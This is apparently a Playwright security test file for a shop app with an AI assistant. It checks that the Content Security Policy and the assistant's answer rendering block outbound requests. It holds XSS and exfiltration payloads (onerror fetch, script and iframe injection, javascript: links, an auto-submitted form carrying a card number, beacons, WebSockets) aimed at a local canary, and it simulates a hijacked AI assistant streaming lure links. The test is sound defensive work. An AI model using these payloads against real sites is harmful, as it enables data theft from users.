import type { Page } from "@playwright/test";
import { startCanary } from "./canary.ts";
import { adminUrl, answers, expect, signIn, test } from "./fixtures.ts";

// What is refused is also said on the console.
test.use({ allowConsole: [/Content Security Policy|violates|ERR_BLOCKED|Refused to|404/] });

let canary: Awaited<ReturnType<typeof startCanary>>;
test.beforeEach(async () => {
  canary = await startCanary();
});
test.afterEach(() => canary.close());

/** An answer as a hijacked server could stream it: words and results of its choice. */
async function answerWith(page: Page, text: string, results: object[] = []) {
  const chunks = [
    { type: "start", messageId: "0191d3c0-0000-7000-8000-000000000001" },
    { type: "start-step" },
    ...results,
    { type: "text-start", id: "t" },
    { type: "text-delta", id: "t", delta: text },
    { type: "text-end", id: "t" },
    { type: "finish-step" },
    { type: "finish" },
  ];
  await page.route("**/api/chat", (route) =>
    route.fulfill({
      status: 200,
      headers: { "content-type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1" },
      body: [...chunks.map((chunk) => JSON.stringify(chunk)), "[DONE]"]
        .map((each) => `data: ${each}\n\n`)
        .join(""),
    }),
  );
}

for (const width of [390, 1440]) {
  test(`an answer full of lures contacts nobody and leads nowhere, ${width} wide`, async ({ page }) => {
    await page.setViewportSize({ width, height: 900 });
    await signIn(page, "aperture", "ada@example.com");
    const { url } = canary;
    const lures = [
      `![photo](${url}/markdown.png)`,
      `<img src="${url}/html.png" onerror="fetch('${url}/onerror')">`,
      `<script src="${url}/script.js"></script>`,
      `<form action="${url}/form"><button>Confirm</button></form>`,
      `<iframe src="${url}/frame"></iframe><style>@import '${url}/style.css'</style>`,
      `[Confirm your account](${url}/link)`,
      `[Run](javascript:location='${url}/javascript')`,
      `[Open](data:text/html,<script src=${url}/data></script>)`,
      `<a href="${url}/anchor" ping="${url}/ping">Here</a> ${url}/plain //127.0.0.1/x`,
      "[A product that is none](product:invented-page)",
      "[Somebody's order](order:AP-99999)",
      "The end of it",
    ];
    await answerWith(page, lures.join("\n\n"), [
      { type: "tool-input-available", toolCallId: "c", toolName: "anything", input: {}, dynamic: true },
      {
        type: "tool-output-available",
        toolCallId: "c",
        output: {
          ok: true,
          data: { products: [{ slug: "invented-page" }], orders: [{ number: "AP-99999" }] },
        },
        dynamic: true,
      },
    ]);
    await page.goto("/aperture/assistant");
    const field = page.getByRole("textbox", { name: "Ask the assistant" });
    await field.fill("Hello");
    await field.press("Enter");
    const answer = answers(page).last();
    await expect(answer).toContainText("The end of it");
    await expect(answer.locator("a, img, form, iframe, script, style, object")).toHaveCount(0);
    // The words are there to be read, and clicking them does nothing.
    for (const words of ["Confirm your account", "Run", "A product that is none"])
      await answer.getByText(words, { exact: true }).first().click();
    await expect(page).toHaveURL(/\/aperture\/assistant/);
    await page.waitForTimeout(500);
    expect(canary.seen).toEqual([]);
  });
}

test("an answer may lead to what a tool of ours found: the twin of the lures", async ({ page }) => {
  await signIn(page, "aperture", "ada@example.com");
  await answerWith(page, "Here is [the camera](product:halvorn-havra-3).", [
    { type: "tool-input-available", toolCallId: "c", toolName: "products_search", input: {} },
    {
      type: "tool-output-available",
      toolCallId: "c",
      output: {
        ok: true,
        data: {
          total: 1,
          products: [
            {
              productId: "1",
              slug: "halvorn-havra-3",
              title: "Halvorn Havra 3",
              brand: "Halvorn",
              category: "mirrorless-cameras",
              priceCents: 1,
              currency: "USD",
              inStock: true,
              attributes: {},
              colour: "#808080",
            },
          ],
        },
      },
    },
  ]);
  await page.goto("/aperture/assistant");
  const field = page.getByRole("textbox", { name: "Ask the assistant" });
  await field.fill("Hello");
  await field.press("Enter");
  await answers(page).last().getByRole("link", { name: "the camera", exact: true }).click();
  await expect(page).toHaveURL(/\/aperture\/p\/halvorn-havra-3$/);
});

/** Puts markup into the page as a hole in our own code would, and tries what a script in it would. */
async function inject(page: Page, url: string) {
  await page.evaluate((evil) => {
    const hole = document.createElement("div");
    hole.innerHTML = `<img src="${evil}/img" srcset="${evil}/srcset 2x"><svg><image href="${evil}/svg"/></svg>
      <iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
      <video src="${evil}/video" poster="${evil}/poster"></video><audio src="${evil}/audio"></audio>
      <link rel="stylesheet" href="${evil}/sheet"><link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="image" href="${evil}/preload">
      <div style="background:url(${evil}/background)">x</div><style>@font-face{font-family:e;src:url(${evil}/font)} body{font-family:e}</style>
      <img src="x" onerror="fetch('${evil}/handler')"><script src="${evil}/script"></script>
      <form id="stolen" method="post" action="${evil}/form"><input name="card" value="4111"></form>`;
    document.body.append(hole);
    void fetch(`${evil}/fetch`).catch(() => undefined);
    navigator.sendBeacon(`${evil}/beacon`, "x");
    try {
      const socket = new WebSocket(evil.replace("http", "ws"));
      socket.addEventListener("error", () => undefined);
    } catch {
      // Refused at once.
    }
    (document.querySelector("#stolen") as HTMLFormElement).submit();
  }, url);
  await page.waitForTimeout(1500);
}

for (const [name, address] of [
  ["a product page", "/aperture/p/halvorn-havra-3"],
  ["the assistant", "/aperture/assistant"],
  ["the admin app", `${adminUrl}/sign-in`],
] as const) {
  test(`markup injected into ${name} contacts nobody`, async ({ page }) => {
    await page.goto(address);
    await inject(page, canary.url);
    expect(canary.seen).toEqual([]);
    expect(page.url()).toContain(new URL(address, page.url()).pathname);
  });
}

test("without the policy the same markup does contact: the canary sings", async ({ browser }) => {
  const context = await browser.newContext({ bypassCSP: true });
  const page = await context.newPage();
  await page.goto("/aperture/p/halvorn-havra-3");
  await inject(page, canary.url);
  expect(canary.seen.length).toBeGreaterThan(5);
  await context.close();
});

test("every page and answer of both apps carries the policy and is kept by nobody", async ({
  request,
  baseURL,
}) => {
  for (const address of [
    "/",
    "/aperture",
    "/aperture/orders",
    "/aperture/assistant",
    "/aperture/api/chats",
    "/nowhere",
    `${adminUrl}/sign-in`,
    `${adminUrl}/tenants`,
  ]) {
    const headers = (await request.get(address, { maxRedirects: 0 })).headers();
    const policy = headers["content-security-policy"] ?? "";
    expect(policy, address).toContain("default-src 'none'");
    expect(policy, address).toContain("frame-ancestors 'none'");
    expect(policy, address).toMatch(/script-src 'self' 'nonce-[^']+';/);
    expect(policy, address).toMatch(/img-src 'self';.*connect-src 'self';.*form-action 'self'/);
    expect(headers["cache-control"], address).toBe("private, no-store");
    expect(headers["x-content-type-options"], address).toBe("nosniff");
    expect(headers["x-frame-options"], address).toBe("DENY");
    expect(headers["x-powered-by"], address).toBeUndefined();
  }
  const nonces = await Promise.all(
    [1, 2].map(async () => (await request.get(`${baseURL}/aperture`)).headers()["content-security-policy"]),
  );
  expect(nonces[0]).not.toBe(nonces[1]);
});
